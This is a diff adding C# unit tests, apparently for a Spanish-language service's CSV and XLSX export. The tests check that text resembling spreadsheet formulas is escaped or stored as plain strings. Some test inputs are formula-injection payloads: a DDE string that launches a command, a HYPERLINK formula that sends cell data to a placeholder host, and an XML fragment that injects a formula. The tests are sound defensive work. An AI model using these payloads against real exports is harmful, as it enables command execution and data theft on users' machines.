@@ -48,6 +48,76 @@ public sealed class BusquedaYExportacionTests
     public void Un_campo_CSV_va_entre_comillas_solo_si_debe(string valor, string esperado) => Assert.Equal(esperado, Csv.Campo(valor));
 
     [Theory]
+    [InlineData("con;punto y coma", "\"con;punto y coma\"")]
+    [InlineData("con\ttab", "\"con\ttab\"")]
+    public void Un_separador_de_otra_configuracion_regional_no_abre_otra_celda(string valor, string esperado) => Assert.Equal(esperado, Csv.Campo(valor));
+
+    [Theory]
+    [InlineData("=HYPERLINK(\"http://x.example/?\"&A1,\"Ver\")", "'=HYPERLINK(\"http://x.example/?\"&A1,\"Ver\")")]
+    [InlineData("+56 9 1234 5678", "'+56 9 1234 5678")]
+    [InlineData("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0")]
+    [InlineData("@SUM(1+1)", "'@SUM(1+1)")]
+    [InlineData("\t=1+1", "'\t=1+1")]
+    [InlineData("\r=1+1", "'\r=1+1")]
+    [InlineData("  =1+1", "'  =1+1")]
+    [InlineData("\n\u00A0-1", "'\n\u00A0-1")]
+    [InlineData("'=ya neutralizado", "'=ya neutralizado")]
+    [InlineData("\"=1+1\"", "\"=1+1\"")]
+    [InlineData("Elaborar = marco + lógico - @dipres", "Elaborar = marco + lógico - @dipres")]
+    [InlineData("", "")]
+    [InlineData("   ", "   ")]
+    public void Un_texto_que_seria_formula_empieza_con_comilla_simple(string texto, string esperado) =>
+        Assert.Equal(esperado, Csv.Neutralizar(texto));
+
+    [Fact]
+    public async Task El_CSV_neutraliza_textos_pero_no_numeros_fechas_ni_booleanos()
+    {
+        var columnas = new Columna<object?>[] { new("v", v => v) };
+        object?[] valores = ["=1+1", "-5", 42, -7L, 3.5m, new DateOnly(2009, 12, 31), true, null, ";=1+1"];
+        using var destino = new MemoryStream();
+        await Csv.EscribirAsync(destino, columnas, valores.ToAsyncEnumerable(), CancellationToken.None);
+
+        var lineas = Encoding.UTF8.GetString(destino.ToArray()).TrimStart('\uFEFF').Split("\r\n");
+        Assert.Equal(["v", "'=1+1", "'-5", "42", "-7", "3.5", "2009-12-31", "true", "", "\";=1+1\"", ""], lineas);
+    }
+
+    /// <summary>
+    /// Texts that a spreadsheet would take as formulas, numbers, booleans or errors: in the XLSX each stays an inline
+    /// string (never evaluated, never typed), the workbook has no formula element, and only the service's own integers
+    /// and booleans are typed cells.
+    /// </summary>
+    [Fact]
+    public async Task El_XLSX_no_lleva_formulas_ni_numeros_forjados_desde_texto()
+    {
+        string[] textos = ["=HYPERLINK(\"http://x.example/?\"&A1,\"Ver\")", "+1", "-1", "@SUM(A1)", "1e308", "TRUE", "#N/A", "</t></is><f>1+1</f><is><t>"];
+        var columnas = new Columna<string>[] { new("texto", t => t), new("largo", t => t.Length), new("vacio", t => t.Length == 0) };
+        using var destino = new MemoryStream();
+        await Xlsx.EscribirAsync(destino, "hoja", columnas, textos.ToAsyncEnumerable(), CancellationToken.None);
+
+        using var zip = new System.IO.Compression.ZipArchive(new MemoryStream(destino.ToArray()));
+        System.Xml.Linq.XNamespace ns = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
+        foreach (var entrada in zip.Entries)
+        {
+            using var flujo = entrada.Open();
+            Assert.Empty(System.Xml.Linq.XDocument.Load(flujo).Descendants(ns + "f"));
+        }
+
+        using var hoja = zip.GetEntry("xl/worksheets/sheet1.xml")!.Open();
+        var filas = System.Xml.Linq.XDocument.Load(hoja).Descendants(ns + "row").Skip(1).ToList();
+        Assert.Equal(textos.Length, filas.Count);
+        for (var i = 0; i < textos.Length; i++)
+        {
+            var celdas = filas[i].Elements(ns + "c").ToList();
+            Assert.Equal("inlineStr", (string?)celdas[0].Attribute("t"));
+            Assert.Equal(textos[i], celdas[0].Value);
+            Assert.Null(celdas[0].Element(ns + "v"));
+            Assert.Null((string?)celdas[1].Attribute("t"));
+            Assert.Equal(textos[i].Length.ToString(System.Globalization.CultureInfo.InvariantCulture), celdas[1].Element(ns + "v")!.Value);
+            Assert.Equal("b", (string?)celdas[2].Attribute("t"));
+        }
+    }
+
+    [Theory]
     [InlineData("a < b & c > d", "a &lt; b &amp; c &gt; d")]
     [InlineData("línea\r\notra", "línea&#13;\notra")]
     [InlineData("tab\tok", "tab\tok")]
